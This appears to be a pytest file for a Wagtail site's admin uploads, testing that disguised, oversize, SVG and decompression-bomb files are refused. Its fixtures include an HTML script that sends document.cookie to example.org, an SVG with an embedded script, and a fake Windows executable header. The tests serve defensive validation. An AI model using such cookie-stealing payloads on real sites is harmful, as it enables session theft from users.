"""Uploads through the real Wagtail admin views: a file must be what its name says, images within limits."""

import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection

from vvg.core.roles import EDITORS

pytestmark = pytest.mark.django_db

MISMATCH = "turinys neatitinka jo plėtinio"
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64 + b"This program cannot be run in DOS mode"
WEB_PAGE = b"<!DOCTYPE html><html><body><script>document.location='https://example.org/?'+document.cookie</script>"
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


@pytest.fixture
def editor_client(client, make_user):
    client.force_login(make_user("redaktore", EDITORS))
    return client


def root_collection():
    return Collection.get_first_root_node().pk


def add_document(client, name, content):
    upload = SimpleUploadedFile(name, content)
    return client.post("/admin/documents/add/", {"title": name, "file": upload, "collection": root_collection()})


def png(width, height, mode="RGB"):
    buffer = io.BytesIO()
    Image.new(mode, (width, height)).save(buffer, "PNG")
    return buffer.getvalue()


def add_image(client, name, content):
    upload = SimpleUploadedFile(name, content)
    return client.post("/admin/images/add/", {"title": name, "file": upload, "collection": root_collection()})


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("salygos.pdf", WINDOWS_PROGRAM),
        ("salygos.pdf", WEB_PAGE),
        ("paraiskos-forma.docx", PDF),
        ("sarasas.csv", WEB_PAGE),
        ("pastabos.txt", WINDOWS_PROGRAM),
    ],
)
def test_a_document_whose_content_does_not_match_its_extension_is_refused(editor_client, name, content):
    response = add_document(editor_client, name, content)
    assert response.status_code == 200
    page = response.content.decode()
    assert f"Failo „{name}“ {MISMATCH}" in page
    assert not get_document_model().objects.exists()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("salygos.pdf", PDF),
        ("sarasas.csv", "Vardas;Pavardė\nJonas;Jonaitis\n".encode("cp1257")),
        ("forma.docx", b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 40),
    ],
)
def test_genuine_documents_are_accepted(editor_client, name, content):
    response = add_document(editor_client, name, content)
    assert response.status_code == 302, response.content.decode()[:1000]
    assert get_document_model().objects.get().file.read() == content


def test_the_multiple_upload_refuses_a_mismatch_too(editor_client):
    response = editor_client.post(
        "/admin/documents/multiple/add/",
        {"files[]": SimpleUploadedFile("salygos.pdf", WEB_PAGE)},
        headers={"x-requested-with": "XMLHttpRequest"},
    )
    answer = json.loads(response.content)
    assert answer["success"] is False and MISMATCH in answer["error_message"]
    assert not get_document_model().objects.exists()


def test_a_document_over_the_size_limit_or_of_another_type_is_refused(editor_client, settings):
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 1024
    response = add_document(editor_client, "didelis.pdf", PDF + b"0" * 2048)
    assert "Byla yra per didelė" in response.content.decode()
    response = add_document(editor_client, "programa.exe", WINDOWS_PROGRAM)
    assert response.status_code == 200 and "exe" in response.content.decode()
    assert not get_document_model().objects.exists()


def test_an_image_decompression_bomb_is_refused(editor_client, settings):
    bomb = png(10_000, 10_000, mode="1")  # a few kilobytes that would unpack to 100 megapixels
    assert len(bomb) < settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE
    response = add_image(editor_client, "bomba.png", bomb)
    assert response.status_code == 200
    assert "Byla turi per daug taškų" in response.content.decode()
    assert not get_image_model().objects.exists()


def test_svg_and_disguised_images_are_refused_and_real_ones_accepted(editor_client):
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    response = add_image(editor_client, "logotipas.svg", svg)
    assert "Nepalaikomas paveiksliuko formatas" in response.content.decode()
    response = add_image(editor_client, "nuotrauka.png", WEB_PAGE)
    assert response.status_code == 200 and not get_image_model().objects.exists()

    response = add_image(editor_client, "nuotrauka.png", png(40, 30))
    assert response.status_code == 302
    assert (get_image_model().objects.get().width, get_image_model().objects.get().height) == (40, 30)
